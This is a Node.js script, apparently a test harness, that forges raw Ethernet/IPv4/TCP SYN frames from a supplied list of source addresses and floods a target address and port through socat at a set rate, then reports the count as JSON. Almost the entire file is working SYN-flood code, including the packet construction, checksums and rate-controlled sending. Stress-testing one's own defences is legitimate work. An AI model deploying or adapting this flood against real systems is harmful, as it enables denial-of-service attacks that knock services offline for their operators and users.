// A SYN flood: the first packet of connections that nobody goes on with, onto the wire as frames of its own making.
// argv: MAC_FROM MAC_TO VIP PORT RATE SECONDS SOURCES(by commas). Ports of the senders are below 32768, where no client's are.
// Prints how many it has written as one line of JSON. `socat` sends each as it reads it.
import { spawn } from 'node:child_process';
import { once } from 'node:events';

const [macFrom, macTo, vip, port, rate, seconds, sources] = process.argv.slice(2);
/** What socat reads at once: more would be one frame. */
const frameBytes = 64;
const different = 16_384;

const bytesOf = (text, separator, base) => text.split(separator).map((byte) => Number.parseInt(byte, base));
const word = (value) => [(value >> 8) & 255, value & 255];

/** The internet checksum (RFC 1071). */
function sumOf(bytes) {
  let sum = 0;
  for (let i = 0; i < bytes.length; i += 2) sum += bytes[i] * 256 + bytes[i + 1];
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >> 16);
  return word(~sum & 0xffff);
}

/** Ethernet, IPv4 (RFC 791) and TCP (RFC 9293) with SYN and the segment size that most have. */
function frameOf(number) {
  const from = sources.split(',');
  const source = bytesOf(from[number % from.length], '.', 10);
  const target = bytesOf(vip, '.', 10);
  const head = [0x45, 0, 0, 44, ...word(number), 0x40, 0, 64, 6, 0, 0, ...source, ...target];
  head.splice(10, 2, ...sumOf(head));
  const sequence = [...word(number * 7919), ...word(number * 104_729)];
  const tcp = [...word(1024 + (Math.floor(number / from.length) % 31_000)), ...word(Number(port)), ...sequence];
  tcp.push(0, 0, 0, 0, 0x60, 0x02, 0xff, 0xff, 0, 0, 0, 0, 2, 4, 0x05, 0xb4);
  tcp.splice(16, 2, ...sumOf([...source, ...target, 0, 6, 0, tcp.length, ...tcp]));
  const frame = Buffer.alloc(frameBytes);
  frame.set([...bytesOf(macTo, ':', 16), ...bytesOf(macFrom, ':', 16), 0x08, 0x00, ...head, ...tcp]);
  return frame;
}

const frames = Buffer.concat(Array.from({ length: different }, (_, number) => frameOf(number)));
const socat = spawn('socat', ['-u', '-b', String(frameBytes), '-', 'INTERFACE:eth0'], {
  stdio: ['pipe', 'ignore', 'inherit'],
});
const beganMs = performance.now();
const passedS = () => (performance.now() - beganMs) / 1000;
let written = 0;
while (passedS() < Number(seconds)) {
  const due = Math.min(Math.floor(passedS() * Number(rate)) - written, 1024);
  if (due > 0) {
    const at = written % different;
    const some = frames.subarray(at * frameBytes, Math.min(at + due, different) * frameBytes);
    written += some.length / frameBytes;
    if (!socat.stdin.write(some)) await once(socat.stdin, 'drain');
  } else await new Promise((resolve) => setTimeout(resolve, 2));
}
const tookS = passedS();
socat.stdin.end();
await once(socat, 'exit');
process.stdout.write(`${JSON.stringify({ opened: written, seconds: tookS })}\n`);
